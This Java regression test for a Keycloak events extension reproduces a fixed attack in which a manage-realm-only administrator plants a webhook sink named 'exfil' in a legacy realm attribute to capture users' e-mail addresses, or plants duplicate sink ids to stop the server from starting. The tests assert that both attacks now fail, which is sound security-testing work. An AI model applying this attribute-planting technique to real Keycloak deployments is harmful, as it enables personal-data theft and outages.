package dev.ciampack.testsuite.review;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.keycloak.admin.client.Keycloak;
import org.keycloak.representations.idm.ClientRepresentation;
import org.keycloak.representations.idm.RealmRepresentation;
import org.keycloak.representations.idm.UserRepresentation;

import dev.ciampack.events.webhook.StandardWebhooks;
import dev.ciampack.testsuite.events.WebhookReceiver;
import dev.ciampack.testsuite.http.Rest;
import dev.ciampack.testsuite.junit.Await;
import dev.ciampack.testsuite.junit.SharedKeycloak;
import dev.ciampack.testsuite.junit.Users;
import dev.ciampack.testsuite.server.KeycloakServer;
import dev.ciampack.testsuite.server.TestServers;

/**
 * Review of issue 12, guarantee 2 ("only admins with manage-realm AND view-users can add or change sinks").
 * The attack: realm attributes are writable with manage-realm alone ({@code PUT /admin/realms/{realm}}), so an
 * administrator refused by the pack's API and by the components API writes sinks into the old realm attribute
 * {@code ciam.events.sinks} instead. Before the fix every server start moved the sinks found there into
 * components ({@code PostMigrationEvent} → {@code SinkStore.moveFromRealmAttribute}), past the view-users check
 * (which skips work that has no admin request behind it): at the next start of any node (an upgrade, a rolling
 * restart, a crash) the planted sink became a component and received every person's e-mail address, and the
 * same attribute holding two sinks with one id kept Keycloak from starting at all.
 *
 * <p>Now {@code EventsListenerFactory} calls {@code SinkStore.dropRealmAttribute} at every start
 * ({@code PostMigrationEvent}) and when a realm is created or imported: the attribute is removed, none of its
 * sinks is used, and the log names them (ids, types and destinations, never secrets). The tests check that after
 * a restart the planted sink does not exist and receives nothing, and that Keycloak still starts and the
 * operator's sink still delivers.
 *
 * <p>Runs its own Keycloak (it restarts it), private sinks allowed so the loopback receiver stands for the
 * attacker's endpoint.
 */
class LegacySinkAttributeIT {

    private static final String REALM = "legacy-review";
    private static final String MANAGER_PASSWORD = "Mallory-Passw0rd!";

    @Test
    @DisplayName("attack refused: a manage-realm-only admin plants a sink in the old realm attribute; "
            + "after a restart it is dropped and nothing is delivered")
    void plantedLegacyAttributeIsDropped() throws Exception {
        try (WebhookReceiver receiver = new WebhookReceiver()) {
            KeycloakServer server = TestServers.startSingle("review-legacy-sink", null, List.of(
                    "--spi-events-listener--ciam-events--allow-private-sinks=true",
                    "--spi-events-listener--ciam-events--drain-interval-seconds=1",
                    "--spi-events-listener--ciam-events--retry-schedule=" + SharedKeycloak.TEST_RETRY_SCHEDULE));
            KeycloakServer restarted = null;
            try {
                String kimId;
                int byPackApi;
                int byComponents;
                int byRealmAttribute;
                String planted = "[{\"id\": \"exfil\", \"url\": \"" + receiver.url("/exfil") + "\", \"secrets\": [\""
                        + StandardWebhooks.newSecret() + "\"], \"events\": [\"user.logged_in\"], "
                        + "\"attributes\": [\"email\", \"firstName\", \"lastName\"], \"basis\": \"legitimate-interests\", "
                        + "\"justification\": \"Fraud screening by an external partner of the shop.\"}]";
                try (Keycloak admin = server.newAdminClient()) {
                    createRealm(admin);
                    kimId = admin.realm(REALM).users().searchByUsername("kim", true).get(0).getId();
                    Rest mallory = Rest.bearer(passwordGrant(server, "mallory", MANAGER_PASSWORD));
                    String adminRealm = server.baseUrl() + "/admin/realms/" + REALM;

                    byPackApi = mallory.put(adminRealm + "/ciam-events/sinks", planted).status();
                    byComponents = mallory.post(adminRealm + "/components", Map.of("name", "exfil",
                            "providerId", "ciam-event-sinks", "providerType", ReviewSupport.SINK_TYPE,
                            "config", Map.of("id", List.of("exfil"), "url", List.of(receiver.url("/exfil")),
                                    "secret", List.of(StandardWebhooks.newSecret()), "attributes", List.of("email"),
                                    "basis", List.of("legitimate-interests"),
                                    "justification", List.of("Fraud screening by an external partner of the shop.")))).status();
                    byRealmAttribute = mallory.put(adminRealm, Map.of("attributes", Map.of("ciam.events.sinks", planted))).status();
                }

                server.stop();
                restarted = KeycloakServer.start(server.distribution(), server.config());

                List<String> sinksAfterRestart;
                try (Keycloak admin = restarted.newAdminClient()) {
                    Rest operator = new Rest(() -> admin.tokenManager().getAccessTokenString());
                    sinksAfterRestart = operator.get(restarted.baseUrl() + "/admin/realms/" + REALM + "/ciam-events/sinks")
                            .expect(200).json().findValuesAsText("id");
                    passwordGrant(restarted, "kim", "Kim-Passw0rd!");
                }
                List<WebhookReceiver.Request> leaked = Await.until(() -> receiver.to("/exfil"), r -> !r.isEmpty(),
                        Duration.ofSeconds(15));

                // Controls: this administrator is refused by both APIs that create sinks, and may write realm attributes.
                assertThat(byPackApi).as("pack API").isEqualTo(403);
                assertThat(byComponents).as("components API").isEqualTo(403);
                assertThat(byRealmAttribute).as("realm attributes are manage-realm's").isEqualTo(204);
                // The attack: nothing planted this way may become a sink, and nothing of kim's may reach it.
                assertThat(leaked).as("kim's sign-in (with her e-mail) at the planted sink; sinks after restart: %s",
                        sinksAfterRestart).noneMatch(r -> r.body().contains(kimId));
                assertThat(sinksAfterRestart).doesNotContain("exfil");
            } finally {
                if (restarted != null) {
                    restarted.stop();
                }
                server.stop();
            }
        }
    }

    /**
     * The same door, used to take the whole server down. Before the fix two planted sinks with one id made the
     * second {@code addComponentModel} throw {@code ComponentValidationException} (a {@code RuntimeException}, not
     * the {@code IllegalArgumentException} that {@code moveFromRealmAttribute} caught) inside the
     * {@code PostMigrationEvent} listener, and Keycloak aborted its start ("Failed to start server in (production)
     * mode ... a sink with id 'dup' exists in this realm"). The attribute stayed (the move was rolled back), so
     * every later start, of every node sharing the database, failed the same way: one realm's manage-realm
     * administrator stopped every realm of the server.
     *
     * <p>Now {@code SinkStore.dropRealmAttribute} creates no component at all: it removes the attribute and logs
     * the sinks it held, each realm in its own transaction, a failure logged and never stopping the server. The
     * test checks that Keycloak starts after the planted attribute and that the operator's sink still delivers
     * kim's sign-in.
     */
    @Test
    @DisplayName("attack refused: a manage-realm-only admin plants two sinks with one id in the old realm attribute; "
            + "Keycloak still starts and the operator's sink still delivers")
    void plantedDuplicateIdsDoNotStopServer() throws Exception {
        try (WebhookReceiver receiver = new WebhookReceiver()) {
            KeycloakServer server = TestServers.startSingle("review-legacy-dup", null, List.of(
                    "--spi-events-listener--ciam-events--allow-private-sinks=true",
                    "--spi-events-listener--ciam-events--drain-interval-seconds=1",
                    "--spi-events-listener--ciam-events--retry-schedule=" + SharedKeycloak.TEST_RETRY_SCHEDULE));
            KeycloakServer restarted = null;
            try {
                String kimId;
                int byRealmAttribute;
                String one = "{\"id\": \"dup\", \"url\": \"https://partner.example/h\", \"secrets\": [\""
                        + StandardWebhooks.newSecret() + "\"], \"events\": [\"user.deleted\"], \"basis\": \"legitimate-interests\", "
                        + "\"justification\": \"Erasure requests forwarded to a partner of the shop.\"}";
                try (Keycloak admin = server.newAdminClient()) {
                    createRealm(admin);
                    kimId = admin.realm(REALM).users().searchByUsername("kim", true).get(0).getId();
                    Rest operator = new Rest(() -> admin.tokenManager().getAccessTokenString());
                    String adminRealm = server.baseUrl() + "/admin/realms/" + REALM;
                    operator.put(adminRealm + "/ciam-events/sinks", "[{\"id\": \"crm\", \"url\": \"" + receiver.url("/crm")
                            + "\", \"secrets\": [\"" + StandardWebhooks.newSecret() + "\"], \"events\": [\"user.logged_in\"], "
                            + "\"basis\": \"legitimate-interests\", \"justification\": \"Sign-in alerts for the security team.\"}]")
                            .expect(200);
                    // Control: the operator's sink delivers before the restart.
                    passwordGrant(server, "kim", "Kim-Passw0rd!");
                    assertThat(Await.until(() -> receiver.to("/crm"), r -> !r.isEmpty(), Duration.ofSeconds(20)))
                            .as("delivered before the restart").isNotEmpty();
                    Rest mallory = Rest.bearer(passwordGrant(server, "mallory", MANAGER_PASSWORD));
                    byRealmAttribute = mallory.put(adminRealm, Map.of("attributes",
                            Map.of("ciam.events.sinks", "[" + one + ", " + one + "]"))).status();
                }
                int deliveredBefore = receiver.to("/crm").size();

                server.stop();
                KeycloakServer[] started = new KeycloakServer[1];
                Throwable startFailure = org.assertj.core.api.Assertions.catchThrowable(
                        () -> started[0] = KeycloakServer.start(server.distribution(), server.config()));
                restarted = started[0];
                List<WebhookReceiver.Request> after = List.of();
                if (restarted != null) {
                    passwordGrant(restarted, "kim", "Kim-Passw0rd!");
                    // mallory's own sign-in may still be on its way: wait for kim's, the one made after the restart.
                    after = Await.until(() -> receiver.to("/crm").subList(deliveredBefore, receiver.to("/crm").size()),
                            r -> r.stream().anyMatch(d -> d.body().contains(kimId)), Duration.ofSeconds(20));
                }

                assertThat(byRealmAttribute).as("realm attributes are manage-realm's").isEqualTo(204);
                // Another administrator's realm attribute must neither keep Keycloak from starting nor stop the operator's
                // sink. (Before the fix the restart failed.)
                assertThat(startFailure).as("restart after the planted attribute").isNull();
                assertThat(after).as("kim's sign-in after the restart").anyMatch(r -> r.body().contains(kimId));
            } finally {
                if (restarted != null) {
                    restarted.stop();
                }
                server.stop();
            }
        }
    }

    /** Realm with ciam-events, user kim, administrator mallory (manage-realm only), public client cli (password grant). */
    private static void createRealm(Keycloak admin) {
        RealmRepresentation rep = new RealmRepresentation();
        rep.setRealm(REALM);
        rep.setEnabled(true);
        rep.setEventsListeners(List.of("jboss-logging", "ciam-events"));
        UserRepresentation mallory = Users.withPassword("mallory", "mallory@ciam.test", "Mallory", "Manager", MANAGER_PASSWORD);
        mallory.setClientRoles(Map.of("realm-management", List.of("manage-realm")));
        rep.setUsers(List.of(Users.withPassword("kim", "kim@ciam.test", "Kim", "Customer", "Kim-Passw0rd!"), mallory));
        ClientRepresentation cli = new ClientRepresentation();
        cli.setClientId("cli");
        cli.setPublicClient(true);
        cli.setDirectAccessGrantsEnabled(true);
        rep.setClients(List.of(cli));
        admin.realms().create(rep);
    }

    /** A password grant on {@code cli} (a LOGIN event); the access token. */
    private static String passwordGrant(KeycloakServer server, String username, String password) throws Exception {
        String form = "grant_type=password&client_id=cli&username=" + URLEncoder.encode(username, StandardCharsets.UTF_8)
                + "&password=" + URLEncoder.encode(password, StandardCharsets.UTF_8);
        HttpResponse<String> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                        URI.create(server.baseUrl() + "/realms/" + REALM + "/protocol/openid-connect/token"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString(form)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).as("password grant for %s: %s", username, response.body()).isEqualTo(200);
        JsonNode token = ReviewSupport.json(response.body());
        return token.get("access_token").asText();
    }
}
